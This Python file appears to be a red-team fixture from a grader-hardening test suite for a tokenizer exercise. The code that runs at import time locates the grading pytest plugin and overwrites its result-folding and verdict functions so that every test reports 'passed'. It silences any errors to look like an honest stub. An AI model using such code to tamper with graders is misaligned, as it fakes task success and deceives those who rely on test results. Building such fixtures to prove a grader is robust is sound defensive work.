"""ATTACK plugin_fold (kind: patching the grading plugin).

What it tries: at import time, find the grading pytest plugin among the loaded modules (``grader.judge.plugin``, or
any module that folds setup/call/teardown reports into one record) and replace its record-folding function
(``_fold``) and its verdict helpers with ones that say "passed" whatever the reports say. Against a grader
whose pytest session imports student code, every test that finishes after this import is recorded as
passed -- including the one that imported this file, since its record is folded after it fails.

Why it must fail under the new design: student code runs in a confined worker that never loads the plugin;
the verdict is folded in the judge process, whose memory this module cannot reach. In the worker there is
no ``grader.judge.plugin`` to patch, so every test sees the stub below and fails.
"""

from __future__ import annotations

import gc
import sys
import types

from llm_basics.tokenizer import BPETokenizer

DEFAULT_SPECIALS = ("<bos>", "<eos>", "<pad>")


def _passed_record(nodeid, reports=(), *args, **kwargs):
    return {"event": "result", "nodeid": nodeid, "outcome": "passed", "kind": "passed", "reason": "",
            "longrepr": "", "output": "", "duration": 0.01}


def _plugins():
    """Every loaded module that looks like the grading plugin (by name first, then by what it defines)."""
    found = [m for name, m in list(sys.modules.items()) if name.endswith("grader.judge.plugin") and m is not None]
    for obj in gc.get_objects():  # a plugin loaded under another name, or not in sys.modules at all
        if isinstance(obj, types.ModuleType) and hasattr(obj, "_fold") and obj not in found:
            found.append(obj)
    return found


def _attack() -> None:
    for plugin in _plugins():
        plugin._fold = _passed_record
        if hasattr(plugin, "reason_from_excinfo"):
            plugin.reason_from_excinfo = lambda excinfo, item: ("passed", "")
        if hasattr(plugin, "STRIKE_KINDS"):
            plugin.STRIKE_KINDS = ()


try:
    _attack()
except Exception:  # an attack never makes the import fail: the stub must look like an honest stub
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


class SpecialTokenizer:
    def __init__(self, base: BPETokenizer, special_tokens=DEFAULT_SPECIALS):
        raise NotImplementedError("ex1: set self.base, self.special_tokens and self._ids")

    def encode(self, text, *, add_bos=False, add_eos=False, allowed_special=()):
        raise NotImplementedError("ex1: encode")

    def decode(self, ids, *, skip_special_tokens=False):
        raise NotImplementedError("ex1: decode")

    def pad(self, batch, *, length=None, side="right"):
        raise NotImplementedError("ex1: pad")

    def save(self, path):
        raise NotImplementedError("ex1: save")

    @classmethod
    def load(cls, path):
        raise NotImplementedError("ex1: load")
